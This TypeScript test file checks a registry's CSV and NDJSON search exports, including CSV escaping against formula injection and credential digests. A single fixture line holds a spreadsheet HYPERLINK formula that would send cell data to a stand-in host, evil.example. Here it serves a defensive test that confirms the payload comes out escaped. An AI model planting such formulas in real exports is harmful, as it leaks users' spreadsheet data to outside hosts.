// Exports of the public search: CSV (RFC 4180, formula-injection safe) that round-trips through a
// CSV parser written here, and NDJSON whose digests match the credentials they name.
import { createHash } from 'node:crypto';
import { base58btc } from 'multiformats/bases/base58';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvCell, csvLine } from '../../src/lib/csv.js';
import { example, runCobaltStory, startLedgerServer, type TestServer } from './helpers.js';

const EVIL = '=HYPERLINK("https://evil.example/?q="&A1,"click")';

/** A strict RFC 4180 reader: quoted fields, doubled quotes, CRLF line ends; every line complete. */
function parseRfc4180(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let i = 0;
  while (i < text.length) {
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quote');
        if (text[i] === '"' && text[i + 1] === '"') {
          field += '"';
          i += 2;
        } else if (text[i] === '"') {
          i++;
          break;
        } else field += text[i++];
      }
    }
    if (text.startsWith('\r\n', i)) {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 2;
    } else if (text[i] === ',') {
      row.push(field);
      field = '';
      i++;
    } else if (text[i] === '"' || text[i] === '\n' || text[i] === '\r')
      throw new Error(`bare ${JSON.stringify(text[i])} at ${i}`);
    else field += text[i++];
  }
  if (field !== '' || row.length > 0) throw new Error('last line has no CRLF');
  return rows;
}

const digestOf = (jws: string) =>
  base58btc.encode(Buffer.concat([Buffer.from([0x12, 0x20]), createHash('sha256').update(jws, 'utf8').digest()]));

describe('exports of the public search (CSV and NDJSON, streamed)', () => {
  let server: TestServer;
  beforeAll(async () => {
    server = await startLedgerServer();
    await runCobaltStory(server);
    const buyer = await server.keyFor('holder:ACC-DE-0042');
    const body = await example('retirement');
    const response = await server.post(
      '/registry/retirements',
      {
        ...body,
        retirementId: 'RET-2026-0099',
        quantity: 2,
        beneficiary: { ...(body.beneficiary as object), name: EVIL },
        claimBoundary: {
          ...(body.claimBoundary as Record<string, unknown>),
          coveredQuantity: { value: 2, unit: 'TNE' },
          coveredProducts: [{ id: 'https://id.elbe-cells.example/01/2', name: '+ECW "line", two\r\nrows' }],
        },
      },
      { key: buyer },
    );
    expect(response.status, await response.clone().text()).toBe(201);
  }, 180_000);
  afterAll(async () => {
    await server?.stop();
  });

  it('CSV round-trips through an RFC 4180 parser, a header row first, and a formula cell comes out escaped', async () => {
    const response = await server.get('/registry/search/retirements?format=csv&limit=1');
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toMatch(/^text\/csv/);
    const rows = parseRfc4180(await response.text());
    const [header, ...data] = rows;
    expect(header![0]).toBe('retirementId');
    expect(data.map((r) => r[0])).toEqual(['RET-2026-0099', 'RET-2026-0007']); // every page, not just limit=1
    const cell = (r: string[], name: string) => r[header!.indexOf(name)];
    const evil = data.find((r) => r[0] === 'RET-2026-0099')!;
    expect(cell(evil, 'beneficiaryName')).toBe(`'${EVIL}`);
    for (const r of data) expect(r).toHaveLength(header!.length);
    // The same through Accept, and the issuances export.
    const byAccept = await server.get('/registry/search/retirements', { accept: 'text/csv' });
    expect(parseRfc4180(await byAccept.text())).toEqual(rows);
    const issuances = parseRfc4180(await (await server.get('/registry/search/issuances?format=csv')).text());
    expect(issuances.map((r) => r[0])).toEqual(['issuanceId', 'RCC-2026-Q1-0001']);
  });

  it('the cell writer escapes every formula start and quotes what needs quoting (negative twins: plain cells stay as they are)', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r'])
      expect(parseRfc4180(csvLine([`${start}1+1`]))[0]![0]).toBe(`'${start}1+1`);
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('RET-2026-0007')).toBe('RET-2026-0007');
    expect(csvCell(25)).toBe('25');
    expect(csvCell(null)).toBe('');
    expect(() => parseRfc4180('a,"b\r\n')).toThrow(/unterminated/);
  });

  it("NDJSON rows carry the credential id and digest, and each digest is the digest of that credential's JWS", async () => {
    const response = await server.get('/registry/search/retirements?state=all', { accept: 'application/x-ndjson' });
    expect(response.headers.get('content-type')).toMatch(/^application\/x-ndjson/);
    const rows = (await response.text())
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as { retirementId: string; credentialId: string; digestMultibase: string });
    expect(rows.map((r) => r.retirementId)).toEqual(['RET-2026-0099', 'RET-2026-0007']);
    for (const row of rows) {
      const path = new URL(row.credentialId).pathname;
      const jws = await (await server.get(path)).json();
      const compact = String((jws as { id: string }).id).slice('data:application/vc+jwt,'.length);
      expect(digestOf(compact), row.retirementId).toBe(row.digestMultibase);
      // Negative twin: another row's credential does not match this digest.
      const other = rows.find((r) => r !== row)!;
      expect(other.digestMultibase).not.toBe(digestOf(compact));
    }
    expect((await server.get('/registry/search/retirements?format=xml')).status).toBe(400);
  });
});
